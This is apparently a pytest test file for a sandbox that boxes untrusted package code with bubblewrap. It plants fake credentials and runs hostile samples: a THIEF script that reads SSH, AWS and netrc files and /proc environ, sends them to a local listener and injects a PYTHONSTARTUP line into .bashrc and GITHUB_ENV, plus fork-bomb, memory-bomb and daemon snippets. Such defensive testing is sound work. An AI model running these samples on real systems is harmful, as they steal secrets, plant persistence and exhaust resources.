"""The box, attacked the way a hostile candidate would, with the real bubblewrap.

Each test plants something of "yours" (secrets in a HOME, credential variables, a workflow's
GITHUB_ENV file, a project, a listener on 127.0.0.1) and runs hostile code in a boxed step
through ``runner.run``, then checks that nothing planted was read, written or reached.
"""

from __future__ import annotations

import json
import os
import sys
import time
from pathlib import Path

import pytest
from listener import Listener

from pytest_spike._core import runner, sandbox
from pytest_spike.model import SpikeError

BOXED = sandbox.status(sandbox.Policy()).boxed
needs_box = pytest.mark.skipif(not BOXED, reason=f"no box here: {sandbox.status(sandbox.Policy()).reason}")

#: Credential variables a CI job or a laptop may hold; none may reach candidate code.
SECRET_ENV = {
    "GITHUB_TOKEN": "s3cr3t-gh",
    "DATABASE_URL": "postgres://app:s3cr3t-db@db.invalid/app",
    "CI_JOB_JWT": "s3cr3t-jwt",
    "NPM_CONFIG__AUTH": "s3cr3t-npm",
    "DOCKER_AUTH_CONFIG": '{"auths": "s3cr3t-docker"}',
    "KUBECONFIG": "/s3cr3t/kube",
    "VAULT_ADDR": "https://s3cr3t-vault.invalid",
    "PIP_INDEX_URL": "https://user:s3cr3t-pip@index.invalid/simple",
    "MYSQL_PWD": "s3cr3t-mysql",
    "SENTRY_DSN": "https://s3cr3t-sentry@sentry.invalid/1",
    "SLACK_WEBHOOK_URL": "https://hooks.invalid/s3cr3t-slack",
    "REDIS_URL": "redis://:s3cr3t-redis@redis.invalid",
}
#: Files a real HOME holds; planted with fake secrets.
SECRET_FILES = {
    ".ssh/id_rsa": "s3cr3t-ssh-key",
    ".aws/credentials": "[default]\naws_secret_access_key = s3cr3t-aws",
    ".netrc": "machine index.invalid login me password s3cr3t-netrc",
    ".pypirc": "[pypi]\npassword = s3cr3t-pypirc",
    ".config/gh/hosts.yml": "github.com:\n  oauth_token: s3cr3t-gh-hosts",
    ".bashrc": "# untouched\n",
}


@pytest.fixture
def yours(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """A HOME with secrets, a project with an extraheader token, a GITHUB_ENV file, secrets set."""
    home = tmp_path / "home"
    for relative, text in SECRET_FILES.items():
        path = home / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    (project / ".git" / "config").write_text(
        '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic s3cr3t-checkout\n'
    )
    (project / ".env").write_text("API_KEY=s3cr3t-dotenv\n")
    (project / "conftest.py").write_text("# the team's conftest\n")
    github_env = tmp_path / "github_env"
    github_env.write_text("")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GITHUB_ENV", str(github_env))
    monkeypatch.setenv("GITHUB_PATH", str(github_env))
    for name, value in SECRET_ENV.items():
        monkeypatch.setenv(name, value)
    out = tmp_path / "out"
    out.mkdir()
    return {"home": home, "project": project, "github_env": github_env, "out": out}


def snapshot(*roots: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for root in roots for p in sorted(root.rglob("*")) if p.is_file()}


THIEF = r"""
import glob, json, os, socket, sys
targets = json.loads(sys.argv[1])
seen = {"env": dict(os.environ), "files": {}, "proc": {}, "connect": None, "wrote": []}
for path in targets["read"] + [os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/.netrc")]:
    try:
        with open(path) as handle:
            seen["files"][path] = handle.read()
    except OSError as exc:
        seen["files"][path] = "refused: %s" % type(exc).__name__
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(path, "rb") as handle:
            seen["proc"][path] = handle.read().decode("utf-8", "replace")
    except OSError:
        pass
try:
    sock = socket.create_connection(("127.0.0.1", targets["port"]), timeout=2)
    sock.sendall(json.dumps(seen["files"]).encode())
    seen["connect"] = "connected"
except OSError as exc:
    seen["connect"] = "refused: %s" % exc
for path in targets["write"]:
    try:
        with open(path, "a") as handle:
            handle.write("PYTHONSTARTUP=/tmp/evil.py\n")
        seen["wrote"].append(path)
    except OSError:
        pass
print(json.dumps(seen))
"""


def steal(yours: dict[str, Path], listener: Listener, box: sandbox.Box) -> tuple[dict, runner.RunResult]:
    home, project = yours["home"], yours["project"]
    targets = {
        "read": [str(home / r) for r in SECRET_FILES] + [str(project / ".git/config"), str(project / ".env")],
        "write": [str(home / ".bashrc"), str(project / "conftest.py"), str(yours["github_env"])],
        "port": listener.port,
    }
    done = runner.run(
        [sys.executable, "-c", THIEF, json.dumps(targets)], timeout=60, cwd=yours["out"], box=box
    )
    assert done.ok, done.stderr
    return json.loads(done.stdout.strip().splitlines()[-1]), done


@needs_box
@pytest.mark.parametrize(
    "box",
    [
        sandbox.Box("import"),
        sandbox.Box("install", network=True),
        pytest.param(sandbox.Box("tests", project="PROJECT"), id="tests-with-project-in-view"),
    ],
    ids=lambda b: b.stage if isinstance(b, sandbox.Box) else None,
)
def test_a_boxed_step_reads_writes_and_sends_nothing_of_yours(
    yours: dict[str, Path], listener: Listener, box: sandbox.Box
) -> None:
    if box.project == "PROJECT":
        box = sandbox.Box("tests", project=str(yours["project"]))
    before = snapshot(yours["home"], yours["project"], yours["github_env"].parent / "github_env")
    seen, done = steal(yours, listener, box)

    assert done.sandbox == "boxed"
    text = json.dumps(seen)
    assert "s3cr3t" not in text, [k for k, v in seen["files"].items() if "s3cr3t" in v]
    assert not any(name in seen["env"] for name in SECRET_ENV)
    assert not any(name.startswith(("GITHUB_", "CI_")) for name in seen["env"])
    assert seen["env"]["HOME"] == sandbox.BOX_HOME
    # The box's HOME holds decoys only.
    assert "spike-decoy" in seen["files"][sandbox.BOX_HOME + "/.ssh/id_rsa"]
    # Writes land nowhere of yours: HOME and the project are read-only or absent, and a
    # path under /tmp is the box's own private /tmp (the snapshot below is the proof).
    assert str(yours["home"] / ".bashrc") not in seen["wrote"]
    assert str(yours["project"] / "conftest.py") not in seen["wrote"]
    assert snapshot(yours["home"], yours["project"], yours["github_env"].parent / "github_env") == before
    if box.network:  # the installer's step reaches the index (and so this listener)...
        assert seen["connect"] == "connected"
    else:  # ...a probe's step reaches nothing
        assert seen["connect"].startswith("refused")
        assert listener.connections == 0
    if box.project:
        assert seen["files"][str(yours["project"] / ".git/config")].startswith("refused")
        assert seen["files"][str(yours["project"] / ".env")] in ("", "refused: PermissionError")  # masked


DAEMON = r"""
import os, sys, time
marker = sys.argv[1]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1.5)
        with open(marker, "w") as handle:
            handle.write("outlived")
        os._exit(0)
    os._exit(0)
print("parent done")
"""


@needs_box
def test_a_setsid_double_fork_dies_with_its_step(tmp_path: Path) -> None:
    marker = tmp_path / "daemon-was-here"
    done = runner.run(
        [sys.executable, "-c", DAEMON, str(marker)],
        timeout=30,
        cwd=tmp_path,
        box=sandbox.Box("import", write=(str(tmp_path),)),
    )
    assert done.ok and "parent done" in done.stdout
    time.sleep(3)
    assert not marker.exists(), "a daemon outlived its step"


@needs_box
def test_a_step_named_through_dotdot_of_a_folder_out_of_view_runs(tmp_path: Path) -> None:
    """``../venv/bin/python -m pytest`` makes sys.executable ``<cwd>/../venv/bin/python``;
    the box shows the venv, not the folder it is named through: the name is resolved first."""
    tool = tmp_path / "venv" / "bin" / "tool"
    tool.parent.mkdir(parents=True)
    tool.write_text('#!/bin/sh\necho ran "$1"\n')
    tool.chmod(0o755)
    (tmp_path / "project").mkdir()
    named = f"{tmp_path}/project/../venv/bin/tool"
    done = runner.run([named, f"--path={tmp_path}/project/../venv"], timeout=30, box=sandbox.Box("import"))
    assert done.ok, done.stderr
    assert done.stdout.strip() == f"ran --path={tmp_path}/venv"


FORK_BOMB = r"""
import os, time
made = 0
for _ in range(400):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(20)
        os._exit(0)
    made += 1
print("forked", made)
"""


@needs_box
def test_a_fork_bomb_hits_the_process_limit(launch: str) -> None:
    policy = sandbox.Policy(limits=sandbox.Limits(processes=64))
    with sandbox.use(policy):
        done = runner.run([sys.executable, "-c", FORK_BOMB], timeout=60, box=sandbox.Box("readme"))
    made = int(done.stdout.split()[-1])
    assert made < 64, done.stdout
    if os.getuid() == 0:  # as root, only a cgroup can count the processes (and it did)
        assert "processes" in done.limits_hit


MEMORY_BOMB = r"""
chunks = []
try:
    for _ in range(64):
        chunks.append(bytearray(32 * 1024 * 1024))
    print("allocated", len(chunks) * 32, "MB")
except MemoryError:
    print("refused after", len(chunks) * 32, "MB")
"""


@needs_box
def test_a_memory_bomb_hits_the_memory_limit_and_is_measured(launch: str) -> None:
    policy = sandbox.Policy(limits=sandbox.Limits(memory_mb=512))
    with sandbox.use(policy):
        done = runner.run([sys.executable, "-c", MEMORY_BOMB], timeout=60, box=sandbox.Box("readme"))
    assert "allocated 2048 MB" not in done.stdout
    assert done.peak_memory_mb is not None and done.peak_memory_mb > 100


@needs_box
def test_a_file_larger_than_the_limit_is_not_written(launch: str, tmp_path: Path) -> None:
    code = "open('big', 'wb').write(b'x' * 8 * 1024 * 1024)"
    with sandbox.use(sandbox.Policy(limits=sandbox.Limits(file_mb=1))):
        done = runner.run(
            [sys.executable, "-c", code],
            timeout=30,
            cwd=tmp_path,
            box=sandbox.Box("x", write=(str(tmp_path),)),
        )
    assert not done.ok
    assert (tmp_path / "big").stat().st_size <= 1024 * 1024


def test_without_bubblewrap_auto_says_so_and_require_refuses(tmp_path: Path) -> None:
    missing = str(tmp_path / "no-bwrap")
    auto = sandbox.Policy(mode="auto", bwrap=missing)
    assert not sandbox.status(auto).boxed
    with sandbox.use(auto):
        done = runner.run([sys.executable, "-c", "print('ran')"], timeout=30, box=sandbox.Box("import"))
    assert done.ok and done.sandbox == "unboxed"
    assert "not sandboxed" in sandbox.status(auto).describe()
    with sandbox.use(sandbox.Policy(mode="require", bwrap=missing)):
        with pytest.raises(SpikeError, match="--spike-sandbox require: .*bubblewrap"):
            runner.run([sys.executable, "-c", "print('ran')"], timeout=30, box=sandbox.Box("import"))
    off = sandbox.Policy(mode="off")
    assert sandbox.status(off).describe().startswith("not sandboxed: --spike-sandbox off")


def test_the_environment_is_an_allow_list() -> None:
    env = {
        **SECRET_ENV,
        "PATH": "/usr/bin",
        "LANG": "C.UTF-8",
        "LC_ALL": "C",
        "GITHUB_ENV": "/x",
        "HOME": "/root",
    }
    kept = sandbox.box_env(env, {"PYTEST_ADDOPTS": ""}, sandbox.BOX_HOME)
    assert set(kept) == {
        *("PATH", "LANG", "LC_ALL", "PYTEST_ADDOPTS", "HOME", "TMPDIR", "USER", "LOGNAME"),
        sandbox.INSIDE_ENV,  # a pytest-spike inside shares the box rather than nesting one
    }
    assert kept["HOME"] == sandbox.BOX_HOME


def test_without_bubblewrap_every_report_says_so_and_require_refuses(
    pytester: pytest.Pytester, spike_site: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PATH without bubblewrap, as on a machine that lacks it: the run goes on unboxed and says
    so in the terminal, the JSON and the Markdown; ``require`` is a usage error naming the fix."""
    bin_dir = pytester.path / "bin"
    bin_dir.mkdir()
    (bin_dir / "python").symlink_to(sys.executable)
    monkeypatch.setenv("PATH", str(bin_dir))
    args = ["--spike", "--spike-probes=import", "--spike-candidate=goodpkg", "-p", "no:cacheprovider"]
    auto = pytester.runpytest_subprocess(*args, "--spike-json=r.json", "--spike-md=r.md")
    auto.stdout.fnmatch_lines(
        ["candidate code: not sandboxed: bubblewrap is not installed; candidate code ran*"]
    )
    data = json.loads((pytester.path / "r.json").read_text())
    assert data["settings"]["sandbox"].startswith("not sandboxed: bubblewrap is not installed")
    assert (
        "**candidate code: not sandboxed: bubblewrap is not installed" in (pytester.path / "r.md").read_text()
    )
    refused = pytester.runpytest_subprocess(*args, "--spike-sandbox=require")
    assert refused.ret == pytest.ExitCode.USAGE_ERROR
    refused.stderr.fnmatch_lines(
        ["*--spike-sandbox require: bubblewrap is not installed*apt-get install bubblewrap*"]
    )


@needs_box
def test_a_candidate_in_the_running_environment_says_its_tests_ran_unboxed(
    pytester: pytest.Pytester, spike_site: Path
) -> None:
    pytester.makepyfile(
        "from pytest_spike import spike\n\n"
        "pytestmark = spike.candidate('goodpkg')\n\n"
        "@spike.hello_world\n"
        "def test_hello():\n"
        "    import goodpkg\n"
    )
    result = pytester.runpytest_subprocess("--spike", "--spike-probes=install", "-p", "no:cacheprovider")
    result.stdout.fnmatch_lines(
        [
            "candidate code: sandboxed (bubblewrap)",
            "*your tests of it ran in the running environment, not boxed*",
        ]
    )


@needs_box
def test_only_a_real_box_counts_as_inside_one(monkeypatch: pytest.MonkeyPatch) -> None:
    """A child pytest shares its parent's box; the box's variable set by anyone outside does not
    make this host skip the box (it also needs bubblewrap as PID 1 of its PID namespace)."""
    monkeypatch.setenv(sandbox.INSIDE_ENV, "1")
    assert not sandbox.inside()
    code = "from pytest_spike._core import sandbox; print(sandbox.inside())"
    env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(Path(sandbox.__file__).parents[2])}
    done = runner.run([sys.executable, "-c", code], timeout=30, env=env, box=sandbox.Box("tests"))
    assert done.stdout.split() == ["True"], done.stderr


def test_threads_starting_their_first_boxed_steps_at_once_try_bubblewrap_once(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import subprocess
    import threading

    # A bwrap of its own path: the trial's cache holds nothing for it yet.
    bwrap = tmp_path / "bwrap"
    bwrap.write_text(f'#!/bin/sh\nexec {sandbox.bwrap_path(sandbox.Policy())} "$@"\n')
    bwrap.chmod(0o755)
    tried: list[str] = []
    real = subprocess.run

    def counting(argv: list[str], *args: object, **kw: object) -> subprocess.CompletedProcess[bytes]:
        if argv[0] == str(bwrap):
            tried.append(argv[-1])
        return real(argv, *args, **kw)  # type: ignore[call-overload, no-any-return]

    monkeypatch.setattr(subprocess, "run", counting)
    policy = sandbox.Policy(bwrap=str(bwrap))
    found: list[sandbox.Status] = []
    threads = [threading.Thread(target=lambda: found.append(sandbox.status(policy))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert tried == ["/bin/true"]
    assert len({status.boxed for status in found}) == 1 and len(found) == 4


def test_an_unboxed_step_writes_no_bytecode_where_the_box_shows_read_only(tmp_path: Path) -> None:
    """Unboxed, a probe's step leaves its interpreter's environment as built (no ``.pyc``
    of a module the build did not compile, no rewritten pytest plugin): a warm run then
    reuses the environment instead of rebuilding it. An install's step, whose box may write
    the environment, keeps writing it."""
    env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
    code = "import sys; print(sys.dont_write_bytecode)"
    root = sandbox.interpreter_paths(sys.executable)[0]
    with sandbox.use(sandbox.Policy(mode="off")):
        probe = runner.run([sys.executable, "-c", code], timeout=30, env=env, box=sandbox.Box("import"))
        install = runner.run(
            [sys.executable, "-c", code], timeout=30, env=env, box=sandbox.Box("install", write=(root,))
        )
        elsewhere = runner.run(
            [sys.executable, "-c", code],
            timeout=30,
            env=env,
            box=sandbox.Box("readme", write=(str(tmp_path),)),
        )
    assert (probe.sandbox, probe.stdout.strip()) == ("unboxed", "True")
    assert (install.sandbox, install.stdout.strip()) == ("unboxed", "False")
    assert elsewhere.stdout.strip() == "True"
    # A pycache prefix keeps the bytecode out of the environment already.
    prefixed = dict(env, PYTHONPYCACHEPREFIX=str(tmp_path / "pycache"))
    with sandbox.use(sandbox.Policy(mode="off")):
        kept = runner.run([sys.executable, "-c", code], timeout=30, env=prefixed, box=sandbox.Box("import"))
    assert kept.stdout.strip() == "False"
    assert sandbox.writes_interpreter([sys.executable], sandbox.Box("install", write=(root,)))
    assert not sandbox.writes_interpreter([sys.executable], sandbox.Box("import"))
